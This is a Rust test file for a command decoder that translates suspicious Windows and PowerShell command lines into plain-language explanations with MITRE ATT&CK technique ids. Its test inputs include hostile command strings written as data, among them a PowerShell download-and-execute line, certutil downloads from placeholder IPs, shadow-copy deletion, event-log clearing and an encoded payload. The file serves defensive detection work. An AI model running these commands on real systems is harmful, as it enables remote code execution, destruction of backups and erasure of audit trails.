//! What a command does in plain words: lines as intruders and administrators write them, the words
//! that must be said, and the technique as attack.mitre.org has it. And lines that only look so.

mod hits;

use spawnscope::decode::{Command, decode};
use spawnscope::model::Decoding;

fn run(text: &str) -> Decoding {
    decode(&Command { text, ..Command::default() })
}

/// The words and technique ids, and a check that each rests on a part of its text.
fn said(line: &str) -> Vec<(String, &'static str)> {
    let decoding = run(line);
    let mut texts = vec![line];
    texts.extend(decoding.layers.iter().map(|layer| layer.text.as_str()));
    for found in &decoding.explanations {
        let text = texts.get(found.layer).and_then(|text| text.get(found.span.from..found.span.to));
        assert!(text.is_some_and(|text| !text.trim().is_empty()), "{line}: {found:?}");
    }
    decoding
        .explanations
        .iter()
        .map(|found| (found.text.clone(), found.technique.map_or("", |technique| technique.id)))
        .collect()
}

fn check(rows: &[(&str, &[(&str, &str)])]) {
    for (line, expected) in rows {
        let expected: Vec<_> =
            expected.iter().map(|(text, id)| ((*text).to_owned(), *id)).collect();
        assert_eq!(said(line), expected, "{line}");
    }
}

#[test]
fn a_name_that_is_no_command_is_not_explained() {
    let lines = [
        "findstr \"vssadmin delete shadows\" x.txt",
        "echo vssadmin delete shadows",
        "notepad C:\\vssadmin delete shadows.txt",
        "copy C:\\Windows\\System32\\certutil.exe C:\\x\\certutil.exe",
        "vssadmin list shadows",
        "certutil -hashfile a.exe SHA256",
        "mycertutil -urlcache -f http://192.0.2.1/a a",
        "$schtasks /create /tn x /tr y /sc minute",
        "net usership",
        "netsh advfirewall show allprofiles",
        "bcdedit /enum",
        "wevtutil qe Security /c:5",
        "regsvr32 /s C:\\Windows\\System32\\scrrun.dll",
        "rundll32 shell32.dll,Control_RunDLL desk.cpl",
        "rundll32 C:\\Windows\\System32\\davclnt.dll,DavSetCookie x",
        "msiexec /i C:\\setup\\a.msi",
        "curl --version",
        "wmic /?",
        "powershell Get-Help Set-MpPreference",
        "powershell -c \"Write-Host 'net user joe /add'\"",
        "bitsadmin /list",
        "reg /?",
        "sc",
        "at",
        "python -c \"print('whoami')\"",
        "git commit -m \"whoami\"",
        "Set-MpPreference -DisableRealtimeMonitoring $false",
        "ssh",
        "C:\\tools\\whoami\\readme.exe",
        "http://192.0.2.1/whoami",
        "",
    ];
    for line in lines {
        let said = said(line);
        let is_setting = line.starts_with("Set-MpPreference");
        assert_eq!(said.len(), usize::from(is_setting), "{line}: {said:?}");
    }
}

#[test]
fn slots_that_are_empty_are_left_out() {
    check(&[
        (
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString($u)\"",
            &[("downloads and runs it in memory", "T1059.001")],
        ),
        ("schtasks /run /tn x", &[("starts the scheduled task x", "T1053.005")]),
    ]);
}

#[test]
fn what_decoding_made_plain_is_told_where_it_is_plain() {
    // `whoami /priv; vssadmin delete shadows` as UTF-16LE, by Python's base64 module.
    let line = "cmd /c powershell -enc dwBoAG8AYQBtAGkAIAAvAHAAcgBpAHYAOwAgAHYAcwBzAGEAZABtAGkAbgAgAGQAZQBsAGUAdABlACAAcwBoAGEAZABvAHcAcwA= & whoami";
    let decoding = run(line);
    let of_layer: Vec<_> =
        decoding.explanations.iter().map(|found| (found.layer, found.text.as_str())).collect();
    assert_eq!(
        of_layer,
        [
            (0, "starts PowerShell: encoded"),
            (0, "asks who the user is"),
            (1, "asks for the user's groups and privileges"),
            (1, "deletes the shadow copies"),
        ]
    );
}

#[test]
fn a_renamed_program_is_known_by_its_version_resource() {
    let command = Command {
        text: "C:\\Users\\Public\\svc.exe -urlcache -f http://198.51.100.7/a C:\\a.exe",
        image: Some("C:\\Users\\Public\\svc.exe"),
        original_file_name: Some("CertUtil.exe"),
    };
    let words: Vec<String> =
        decode(&command).explanations.into_iter().map(|found| found.text).collect();
    assert_eq!(words, ["downloads http://198.51.100.7/a to C:\\a.exe with certutil"]);
}

#[test]
fn more_commands_than_the_limit_are_told() {
    let line = "vssadmin delete shadows & wevtutil cl a & ".repeat(400);
    let decoding = run(&line);
    assert!(decoding.explanations.len() <= 66, "{}", decoding.explanations.len());
    let last = decoding.explanations.last().map(|found| found.text.as_str());
    assert_eq!(last, Some("holds more commands than are explained"));
}

#[test]
fn every_sample_layer_span_fits() {
    let line = "é & whoami & \u{1F600}whoami & ;whoami é; net user é \u{1F600} /add";
    said(line);
}
